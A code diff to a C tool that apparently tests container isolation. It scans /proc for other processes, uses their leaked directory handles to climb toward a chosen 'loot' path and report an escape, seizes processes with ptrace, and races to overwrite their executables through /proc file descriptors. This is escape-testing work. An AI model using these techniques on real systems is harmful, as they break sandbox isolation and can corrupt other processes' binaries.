@@ -9,6 +9,7 @@
 #include <fcntl.h>
 #include <limits.h>
 #include <signal.h>
+#include <stdarg.h>
 #include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -47,10 +48,31 @@ static int swap(const char *a, const char *b, double seconds)
 	return 0;
 }
 
-/* A file of a process, opened and, if it opens, described: what it is, and where it leads. */
-static void reach(pid_t pid, const char *name)
+/* Prints a line unless it was printed before. */
+__attribute__((format(printf, 1, 2))) static void tell(const char *format, ...)
 {
-	char path[PATH_MAX], target[PATH_MAX] = "?";
+	static unsigned long told[65536];
+	char line[PATH_MAX + 256];
+	va_list arguments;
+	va_start(arguments, format);
+	vsnprintf(line, sizeof line, format, arguments);
+	va_end(arguments);
+	unsigned long hash = 5381;
+	for (const char *c = line; *c; c++)
+		hash = hash * 33 + (unsigned char)*c;
+	if (told[hash % 65536] == hash)
+		return;
+	told[hash % 65536] = hash;
+	say(line);
+}
+
+/*
+ * A file of a process, opened and, if it opens, described: what it is, where it leads, and whether what
+ * is wanted of the host can be found from there.
+ */
+static void reach(pid_t pid, const char *name, const char *loot)
+{
+	char path[2 * PATH_MAX], target[PATH_MAX] = "?";
 	struct stat status;
 	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
 	ssize_t length = readlink(path, target, sizeof target - 1);
@@ -59,10 +81,13 @@ static void reach(pid_t pid, const char *name)
 	target[length] = 0;
 	int fd = open(path, O_PATH | O_CLOEXEC);
 	if (fd < 0 || fstat(fd, &status)) {
-		printf("saw %d %s %s\n", pid, name, target);
+		tell("saw %d %s %s", pid, name, target);
 	} else {
 		const char *kind = S_ISDIR(status.st_mode) ? "folder" : S_ISREG(status.st_mode) ? "file" : S_ISSOCK(status.st_mode) ? "socket" : "other";
-		printf("reached %d %s %s %s\n", pid, name, kind, target);
+		tell("reached %d %s %s %s", pid, name, kind, target);
+		snprintf(path, sizeof path, "../../../../../../../../../..%s", loot);
+		if (S_ISDIR(status.st_mode) && fstatat(fd, path, &status, 0) == 0)
+			tell("escaped %d %s", pid, name);
 	}
 	if (fd >= 0)
 		close(fd);
@@ -80,13 +105,13 @@ static void overwrite(pid_t pid)
 	ssize_t length = readlink(path, target, sizeof target - 1);
 	if (length >= 0)
 		target[length] = 0;
-	printf("opened %d exe %s\n", pid, target);
+	tell("opened %d exe %s", pid, target);
 	snprintf(path, sizeof path, "/proc/self/fd/%d", binary);
 	for (double end = now() + 0.05; now() < end;) {
 		int writable = open(path, O_WRONLY | O_CLOEXEC);
 		if (writable >= 0) {
 			if (write(writable, "#!overwritten\n", 14) == 14)
-				printf("wrote %d exe %s\n", pid, target);
+				tell("wrote %d exe %s", pid, target);
 			close(writable);
 			break;
 		}
@@ -94,7 +119,7 @@ static void overwrite(pid_t pid)
 	close(binary);
 }
 
-static void catch_process(pid_t pid, bool trace)
+static void catch_process(pid_t pid, const char *loot)
 {
 	static const char *const names[] = {"cwd", "root", "exe"};
 	char path[64];
@@ -106,24 +131,26 @@ static void catch_process(pid_t pid, bool trace)
 			if (*entry->d_name == '.')
 				continue;
 			snprintf(name, sizeof name, "fd/%s", entry->d_name);
-			reach(pid, name);
+			reach(pid, name, loot);
 		}
 		closedir(folder);
 	}
 	for (size_t i = 0; i < sizeof names / sizeof *names; i++)
-		reach(pid, names[i]);
-	if (trace && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
-		printf("traced %d\n", pid);
+		reach(pid, names[i], loot);
+	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
+		tell("traced %d", pid);
 		if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
 			waitpid(pid, NULL, __WALL);
 		ptrace(PTRACE_DETACH, pid, 0, 0);
 	}
 }
 
-/* hunt SECONDS [overwrite|trace]: watches /proc for processes that it did not see before, and tries all on each. */
-static int hunt(double seconds, const char *how)
+/*
+ * hunt SECONDS LOOT: tries all on each process of the container but process 1 and itself, again and again.
+ * overwrite SECONDS: tries to write to their binaries.
+ */
+static int hunt(double seconds, const char *loot)
 {
-	/* What to make of a process that was seen once: looked at again until its program is another one. */
 	say("hunting");
 	for (double end = now() + seconds; now() < end;) {
 		DIR *processes = opendir("/proc");
@@ -133,13 +160,12 @@ static int hunt(double seconds, const char *how)
 			pid_t pid = atoi(entry->d_name);
 			if (pid <= 1 || pid == getpid())
 				continue;
-			if (!strcmp(how, "overwrite"))
-				overwrite(pid);
+			if (loot)
+				catch_process(pid, loot);
 			else
-				catch_process(pid, !strcmp(how, "trace"));
+				overwrite(pid);
 		}
 		closedir(processes);
-		fflush(stdout);
 	}
 	say("hunted");
 	return 0;
@@ -224,6 +250,8 @@ int main(int argc, char **argv)
 		return swap(argv[2], argv[3], strtod(argv[4], NULL));
 	if (!strcmp(act, "hunt") && argc == 4)
 		return hunt(strtod(argv[2], NULL), argv[3]);
+	if (!strcmp(act, "overwrite") && argc == 3)
+		return hunt(strtod(argv[2], NULL), NULL);
 	if (!strcmp(act, "crowd") && argc > 4)
 		return crowd(atoi(argv[2]), argv[3], argv + 4);
 	if (!strcmp(act, "squat") && argc == 5)
